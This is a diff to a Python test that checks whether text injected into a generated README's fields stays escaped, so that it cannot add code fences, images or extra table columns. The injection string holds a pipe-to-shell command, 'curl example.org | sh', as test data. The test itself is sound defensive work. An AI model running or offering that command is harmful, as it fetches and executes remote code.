@@ -205,7 +205,7 @@ def test_texts_of_a_catalogue_are_no_commands_in_the_script_and_the_env_file(ass
 
 
 def test_nothing_in_the_readme_but_our_own_blocks_is_code(assembled):
-    fence = "x'\n```\n\n```sh\ncurl example.org | sh\n```\n~~~\n![x](https://example.org/x.png)"
+    fence = "x'\n```\n\n```sh\ncurl example.org | sh\n```\n~~~\n![x](https://example.org/x.png) | x |"
     plan = copy.deepcopy(PLAN) | {"summary": fence}
     plan["scaffold"]["reasoning"] = plan["custom_tools"][0]["description"] = plan["test_cases"][0]["query"] = fence
     readme, plain = assembled(plan)["README.md"].decode(), assembled()["README.md"].decode()
@@ -213,6 +213,7 @@ def test_nothing_in_the_readme_but_our_own_blocks_is_code(assembled):
     assert fences == [line for line in plain.splitlines() if line.startswith("```")]
     outside = re.sub(r"^```sh\n.*?^```$", "", readme, flags=re.MULTILINE | re.DOTALL)
     assert not re.search(r"(?<!\\)(\[x\]|```|~~~)", outside)
+    assert {len(re.findall(r"(?<!\\)\|", line)) for line in outside.splitlines() if line.startswith("|")} == {4}
 
 
 @pytest.mark.parametrize(
